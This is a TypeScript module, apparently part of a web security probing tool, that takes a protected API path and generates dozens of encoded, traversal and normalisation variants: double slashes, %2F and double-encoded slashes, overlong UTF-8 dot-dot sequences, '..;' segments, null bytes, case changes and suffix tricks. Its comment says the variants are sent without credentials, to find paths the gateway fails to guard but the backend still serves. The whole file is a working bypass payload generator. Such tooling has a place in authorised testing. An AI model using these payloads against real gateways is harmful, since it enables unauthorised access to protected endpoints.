import type { Family } from '../family'

const BACK = ['..', '%2e%2e', '%2E%2E', '.%2e', '..;', '%252e%252e', '%c0%ae%c0%ae']

/** The same path, written in ways that a backend may take for it and the gateway does not. Nobody says who he is. */
export const paths: Family = {
  name: 'path tricks',
  knocks: ({ path }) => [...new Set(spellings(path))].map((target) => ({ what: `the path ${target}`, target })),
}

function spellings(path: string): string[] {
  const inner = path.slice(1)
  const first = inner[0] ?? ''
  const coded = first === '' ? [] : [`/%${first.charCodeAt(0).toString(16).padStart(2, '0')}${inner.slice(1)}`]
  return [
    `/${path}`,
    `//${path}`,
    path.replaceAll('/', '//'),
    `${path}/`,
    `${path}//`,
    `/%2F${inner}`,
    `/%2f${inner}`,
    `/%5C${inner}`,
    `/%ef%bc%8f${inner}`,
    `/${inner.replaceAll('/', '%2F')}`,
    `/${inner.replaceAll('/', '%252F')}`,
    ...coded,
    path.toUpperCase(),
    `/${first.toUpperCase()}${inner.slice(1)}`,
    `/.${path}`,
    `/%2e${path}`,
    `${path}/.`,
    ...BACK.flatMap((back) => [`/${back}${path}`, `/any/${back}${path}`, `${path}/${back}${path}`]),
    `${path};any=1`,
    `${path}%00`,
    `${path}%20`,
    `${path}%09`,
    `${path}%23`,
    `${path}%3f`,
    `${path}.json`,
    `${path}?/`,
    `${path}#`,
  ]
}
